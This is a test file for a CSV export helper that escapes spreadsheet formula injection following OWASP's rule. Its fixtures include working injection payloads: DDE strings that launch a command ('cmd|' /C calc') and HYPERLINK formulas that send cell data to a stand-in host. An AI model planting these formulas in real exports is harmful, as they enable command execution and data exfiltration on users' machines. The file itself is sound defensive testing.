import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvHeaderCells, csvSafeCell, toCsv } from './csv';

describe('csvSafeCell (OWASP CSV injection rule)', () => {
  it.each([
    // OWASP's examples and the payloads of issue 22, finding 5.
    ['=1+1', "'=1+1"],
    ['+1+1', "'+1+1"],
    ['-1+1', "'-1+1"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ["-1+1+cmd|' /C calc'!A0", "'-1+1+cmd|' /C calc'!A0"],
    ['-2-HYPERLINK("https://evil.example","x")', '\'-2-HYPERLINK("https://evil.example","x")'],
    [
      '=HYPERLINK("https://evil.example?x="&A1,"Error")',
      '\'=HYPERLINK("https://evil.example?x="&A1,"Error")',
    ],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\tanything', "'\tanything"],
    ['-', "'-"],
    ['+', "'+"],
    ['-1e5', "'-1e5"],
    ['-12.50 USD', "'-12.50 USD"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
    // Plain numbers stay numbers.
    ['-12.50', '-12.50'],
    ['-0.000123456789012345', '-0.000123456789012345'],
    ['+3', '+3'],
    ['-.5', '-.5'],
    ['12', '12'],
    // Ordinary text is untouched, a formula character later in the cell does no harm.
    ['Song = Love', 'Song = Love'],
    ['Café del Mar', 'Café del Mar'],
    ['', ''],
  ])('%j → %j', (input, expected) => {
    expect(csvSafeCell(input)).toBe(expected);
  });

  it('writes numbers and empty cells as they are', () => {
    expect(csvSafeCell(-12.5)).toBe('-12.5');
    expect(csvSafeCell(-3n)).toBe('-3');
    expect(csvSafeCell(null)).toBe('');
    expect(csvSafeCell(undefined)).toBe('');
  });
});

describe('toCsv', () => {
  it('quotes what needs quoting and reads back to the safe cells', () => {
    const hostile = '-2-HYPERLINK("https://evil.example","Click"),\r\nnext';
    const text = toCsv(
      ['Title', 'Amount'],
      [
        [hostile, '-12.50'],
        ['Plain, with comma', '3'],
      ],
    );
    expect(text).toBe(
      'Title,Amount\r\n"\'-2-HYPERLINK(""https://evil.example"",""Click""),\r\nnext",-12.50\r\n"Plain, with comma",3\r\n',
    );
    expect(parse(text)).toEqual([
      ['Title', 'Amount'],
      [`'${hostile}`, '-12.50'],
      ['Plain, with comma', '3'],
    ]);
  });

  it('writes only the header when there are no rows', () => {
    expect(toCsv(['a', 'b'], [])).toBe('a,b\r\n');
  });
});

describe('csvHeaderCells', () => {
  it('reads the first record of a file with its quotes, delimiter and byte order mark', () => {
    expect(csvHeaderCells('\uFEFF"ISRC","Title, long",Amount\r\n1,2,3\n', ',')).toEqual([
      'ISRC',
      'Title, long',
      'Amount',
    ]);
    expect(csvHeaderCells('Store\tCountry of Sale\t\tEarnings (USD)\nx', '\t')).toEqual([
      'Store',
      'Country of Sale',
      'Earnings (USD)',
    ]);
    expect(csvHeaderCells('"never closed,a,b', ',')).toEqual([]);
  });
});
